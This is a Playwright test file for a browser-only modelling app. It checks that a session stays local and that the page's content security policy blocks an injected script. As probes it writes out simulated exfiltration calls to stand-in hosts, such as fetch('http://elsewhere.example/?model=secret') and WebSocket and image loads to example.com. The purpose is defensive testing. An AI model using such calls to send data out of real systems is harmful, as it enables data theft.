import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type Page } from '@playwright/test';
import { connect, openStarter, place, registerRows, select } from './drive';

/** Nothing leaves the browser, and the browser itself holds the app to that. */

test.use({ serviceWorkers: 'allow' });

/** What the page was refused by its policy, collected as it happens. */
async function watchRefusals(page: Page): Promise<() => Promise<readonly string[]>> {
  await page.addInitScript(() => {
    const refused: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) =>
      refused.push(`${effectiveDirective}: ${blockedURI} ${sample}`),
    );
    Object.assign(window, { refused });
  });
  return () => page.evaluate(() => (window as unknown as { refused: readonly string[] }).refused);
}

/**
 * The wire out of the machine: what is asked of anybody else passes here, whoever in the browser asks, a page, a worker or the
 * service worker, and goes no further.
 */
async function tapTheWire(): Promise<{ readonly server: Server; readonly heard: readonly string[] }> {
  const heard: string[] = [];
  const server = createServer(({ url }, response) => {
    heard.push(url ?? '');
    response.writeHead(502).end();
  });
  server.on('connect', ({ url }, socket) => {
    heard.push(url ?? '');
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, heard };
}

test('an hour of work asks nothing of anybody but the files of the app', async ({
  browser,
  baseURL,
  viewport,
}) => {
  const { server, heard } = await tapTheWire();
  const { port } = server.address() as AddressInfo;
  const context = await browser.newContext({
    ...(baseURL === undefined ? {} : { baseURL }),
    viewport,
    // The app itself is served from this machine.
    proxy: { server: `http://127.0.0.1:${port}`, bypass: '127.0.0.1' },
  });
  const page = await context.newPage();
  const asked: string[] = [];
  context.on('request', (request) => asked.push(request.url()));
  const refusals = await watchRefusals(page);
  const complaints: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error') complaints.push(message.text());
  });

  await openStarter(page, 'Web application');
  // Away from the edge, where the view goes along with a drag that takes its time.
  await place(page, 'Process', 'Reporting', { x: 150, y: 420 });
  await place(page, 'Data store', 'Archive', { x: 330, y: 420 });
  await connect(page, 'Reporting', 'Archive', 'export');
  await select(page, 'Reporting');
  const tabs = page.getByRole('tablist', { name: 'Register views' }).getByRole('tab');
  for (const tab of await tabs.all()) await tab.click();
  await tabs.first().click();
  await registerRows(page).first().click();
  await page.keyboard.press('Enter');
  await page.getByRole('button', { name: 'Export', exact: true }).click();
  const formats = page.getByRole('dialog', { name: 'Export' }).getByRole('radiogroup').first();
  for (const format of await formats.getByRole('radio').all()) {
    await format.check();
    await expect(page.getByRole('region', { name: 'Preview' })).toContainText(/\d (B|kB|MB)/);
  }
  await page.keyboard.press('Escape');
  await page.keyboard.press('ControlOrMeta+k');
  await expect(page.getByRole('dialog', { name: 'Commands' })).toBeVisible();
  await page.keyboard.press('Escape');
  await page.getByRole('link', { name: 'Models' }).click();
  await expect(page.getByRole('listitem', { name: 'Web application', exact: true })).toBeVisible();
  await expect
    .poll(() => page.evaluate(() => navigator.serviceWorker.controller?.state), { timeout: 60_000 })
    .toBe('activated');

  const own = new RegExp(`^(${baseURL}|blob:${baseURL}|data:)`);
  expect(asked.filter((url) => !own.test(url))).toEqual([]);
  expect(asked.length).toBeGreaterThan(3);
  expect(await refusals()).toEqual([]);
  expect(complaints).toEqual([]);
  expect(heard).toEqual([]);

  // And the wire is the one that they would have used: the service worker, which the policy of the page does not bind, is made to.
  const [worker] = context.serviceWorkers();
  await worker?.evaluate(() => fetch('http://elsewhere.example/?model=secret').catch(() => undefined));
  expect(heard).toEqual(['http://elsewhere.example/?model=secret']);
  await context.close();
  server.close();
});

test('a script that got in could not send anything, load anything, or run text as code', async ({ page }) => {
  const refusals = await watchRefusals(page);
  await page.goto('./');
  await expect(page.getByRole('heading', { name: 'Models' })).toBeVisible();

  const got = await page.evaluate(async () => {
    const outcome = (work: () => Promise<unknown>): Promise<string> =>
      work().then(
        () => 'done',
        () => 'refused',
      );
    const loaded = (element: HTMLElement): Promise<unknown> =>
      new Promise((resolve, reject) => {
        element.addEventListener('load', resolve);
        element.addEventListener('error', reject);
        document.body.append(element);
      });
    return {
      fetchElsewhere: await outcome(() => fetch('https://example.com/?model=secret')),
      fetchHere: await outcome(() => fetch('./drawbridge.schema.json')),
      socket: await outcome(
        () =>
          new Promise((resolve, reject) => {
            const socket = new WebSocket('wss://example.com');
            socket.addEventListener('open', resolve);
            socket.addEventListener('error', reject);
          }),
      ),
      image: await outcome(() =>
        loaded(Object.assign(new Image(), { src: 'https://example.com/a.png?model=secret' })),
      ),
      script: await outcome(() =>
        loaded(Object.assign(document.createElement('script'), { src: 'https://example.com/a.js' })),
      ),
      code: await outcome(
        () =>
          new Promise((resolve, reject) => {
            // A turn later, for what a test evaluates itself is exempt from the policy.
            setTimeout(() => {
              try {
                // oxlint-disable-next-line typescript/no-implied-eval
                resolve(new Function('return 1'));
              } catch (error) {
                reject(error instanceof Error ? error : new Error(String(error)));
              }
            });
          }),
      ),
      inline: await new Promise((resolve) => {
        const script = document.createElement('script');
        script.textContent = 'document.documentElement.dataset.ran = "yes";';
        document.body.append(script);
        resolve(document.documentElement.dataset['ran'] ?? 'refused');
      }),
      style: await new Promise((resolve) => {
        document.body.insertAdjacentHTML('beforeend', '<i id="styled" style="position: fixed">x</i>');
        resolve(getComputedStyle(document.querySelector('#styled')!).position);
      }),
    };
  });

  expect(got).toEqual({
    fetchElsewhere: 'refused',
    fetchHere: 'refused',
    socket: 'refused',
    image: 'refused',
    script: 'refused',
    code: 'refused',
    inline: 'refused',
    style: 'static',
  });
  expect((await refusals()).length).toBeGreaterThanOrEqual(7);
});
